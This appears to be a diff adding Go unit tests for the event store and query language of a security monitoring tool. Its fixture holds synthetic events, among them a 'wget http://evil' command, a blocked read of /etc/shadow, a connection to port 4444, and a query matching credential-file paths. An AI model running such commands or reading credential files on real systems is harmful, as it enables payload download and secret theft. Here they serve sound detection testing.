@@ -0,0 +1,167 @@
+package storage
+
+import (
+	"strings"
+	"testing"
+	"time"
+
+	"aegis/pkg/events"
+)
+
+func queryFixture(t *testing.T) *Manager {
+	t.Helper()
+	m := NewManager(100, 10)
+	base := time.Now().Add(-time.Hour)
+
+	exec := func(id uint64, comm, parent, cmdline string, uid uint32) {
+		ev := events.ExecEvent{}
+		ev.Hdr.ID = id
+		ev.Hdr.PID = uint32(id)
+		ev.Hdr.UID = uid
+		ev.Hdr.CgroupID = 7
+		copy(ev.Hdr.Comm[:], comm)
+		copy(ev.PComm[:], parent)
+		copy(ev.Filename[:], "/usr/bin/"+comm)
+		copy(ev.CommandLine[:], cmdline)
+		m.Append(EventFromBackend(id, events.EventTypeExec, base.Add(time.Duration(id)*time.Minute), ev))
+	}
+	exec(1, "curl", "bash", "curl http://example.com", 1000)
+	exec(2, "ls", "bash", "ls -l", 0)
+	exec(3, "wget", "sh", "wget http://evil", 0)
+
+	file := events.FileOpenEvent{}
+	file.Hdr.ID, file.Hdr.PID, file.Hdr.Blocked = 4, 2, 1
+	copy(file.Hdr.Comm[:], "ls")
+	copy(file.Filename[:], "/etc/shadow")
+	m.Append(EventFromBackend(4, events.EventTypeFileOpen, base.Add(4*time.Minute), file))
+
+	conn := events.ConnectEvent{Family: 2, Port: 4444, AddrV4: 0x0100000a} // 10.0.0.1
+	conn.Hdr.ID, conn.Hdr.PID = 5, 3
+	copy(conn.Hdr.Comm[:], "wget")
+	m.Append(EventFromBackend(5, events.EventTypeConnect, base.Add(5*time.Minute), conn))
+	return m
+}
+
+func runQuery(t *testing.T, m *Manager, src string) *QueryResult {
+	t.Helper()
+	q, err := ParseQuery(src, time.Now())
+	if err != nil {
+		t.Fatalf("ParseQuery(%q): %v", src, err)
+	}
+	res, err := m.Execute(q, QueryContext{CgroupPath: func(uint64) string { return "/kubepods/pod-a" }})
+	if err != nil {
+		t.Fatalf("Execute(%q): %v", src, err)
+	}
+	return res
+}
+
+func resultIDs(res *QueryResult) []uint64 {
+	ids := make([]uint64, len(res.Events))
+	for i, ev := range res.Events {
+		ids[i] = ev.ID
+	}
+	return ids
+}
+
+func TestQueryMatches(t *testing.T) {
+	m := queryFixture(t)
+	tests := []struct {
+		query string
+		want  []uint64
+	}{
+		{`type = exec and parent in (bash, "sh") and cmdline contains "http"`, []uint64{1, 3}},
+		{`filename ~= "^/etc/(passwd|shadow)$"`, []uint64{4}},
+		{`blocked = true`, []uint64{4}},
+		{`not blocked = true and uid = 0`, []uint64{2, 3, 5}},
+		{`dst.ip = 10.0.0.0/8 and dst.port >= 1024`, []uint64{5}},
+		{`comm = ls or (comm = curl and uid != 0)`, []uint64{1, 2, 4}},
+		{`cgroup_path contains "pod-a" and type = connect`, []uint64{5}},
+		{`pid in (1, 3) sort by id desc limit 2`, []uint64{5, 3}},
+		{`since 150m until 57m30s`, []uint64{1, 2}},
+		{`limit 2`, []uint64{4, 5}},
+	}
+	for _, tt := range tests {
+		got := resultIDs(runQuery(t, m, tt.query))
+		if len(got) != len(tt.want) {
+			t.Errorf("%q = %v, want %v", tt.query, got, tt.want)
+			continue
+		}
+		for i := range got {
+			if got[i] != tt.want[i] {
+				t.Errorf("%q = %v, want %v", tt.query, got, tt.want)
+				break
+			}
+		}
+	}
+}
+
+func TestQueryUsesIndex(t *testing.T) {
+	m := queryFixture(t)
+	if res := runQuery(t, m, `pid = 2 and filename contains "shadow"`); !strings.HasPrefix(res.Plan, "index") || res.Scanned != 2 {
+		t.Fatalf("plan %q scanned %d", res.Plan, res.Scanned)
+	}
+	if res := runQuery(t, m, `pid = 2 or comm = curl`); !strings.HasPrefix(res.Plan, "scan") {
+		t.Fatalf("disjunction planned as %q", res.Plan)
+	}
+
+	// A capped index list cannot answer for events it has dropped.
+	for i := uint64(10); i < 30; i++ {
+		ev := events.FileOpenEvent{}
+		ev.Hdr.PID = 2
+		m.Append(EventFromBackend(i, events.EventTypeFileOpen, time.Now(), ev))
+	}
+	res := runQuery(t, m, `pid = 2`)
+	if !strings.HasPrefix(res.Plan, "scan") || res.Total != 22 {
+		t.Fatalf("capped index: plan %q total %d", res.Plan, res.Total)
+	}
+}
+
+func TestParseQueryErrors(t *testing.T) {
+	for _, src := range []string{
+		`nosuch = 1`,
+		`pid = abc`,
+		`pid contains 1`,
+		`comm ~= "("`,
+		`type = widget`,
+		`comm = "unterminated`,
+		`(comm = a`,
+		`comm = a limit -1`,
+		`sort time`,
+	} {
+		if _, err := ParseQuery(src, time.Now()); err == nil {
+			t.Errorf("ParseQuery(%q) succeeded", src)
+		}
+	}
+}
+
+func TestAggregate(t *testing.T) {
+	m := queryFixture(t)
+	q, _ := ParseQuery(`since 2h`, time.Now())
+
+	res, err := m.Aggregate(q, Aggregation{Op: AggTop, GroupBy: []string{"comm"}, Limit: 2}, QueryContext{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(res.Groups) != 2 || res.Groups[0].Key[0] != "ls" || res.Groups[0].Count != 2 || res.Groups[0].Blocked != 1 {
+		t.Fatalf("top comm = %+v", res.Groups)
+	}
+
+	res, _ = m.Aggregate(q, Aggregation{Op: AggDistinct, Field: "parent"}, QueryContext{})
+	if res.Distinct != 2 || res.Matched != 5 {
+		t.Fatalf("distinct parent = %d of %d", res.Distinct, res.Matched)
+	}
+
+	q.Until = q.Since.Add(2 * time.Hour)
+	res, _ = m.Aggregate(q, Aggregation{Op: AggHistogram, Interval: time.Hour}, QueryContext{})
+	total := 0
+	for _, b := range res.Buckets {
+		total += b.Count
+	}
+	if len(res.Buckets) < 2 || total != 5 {
+		t.Fatalf("histogram = %+v", res.Buckets)
+	}
+
+	if _, err := m.Aggregate(q, Aggregation{Op: AggCount}, QueryContext{}); err == nil {
+		t.Fatal("count without group_by accepted")
+	}
+}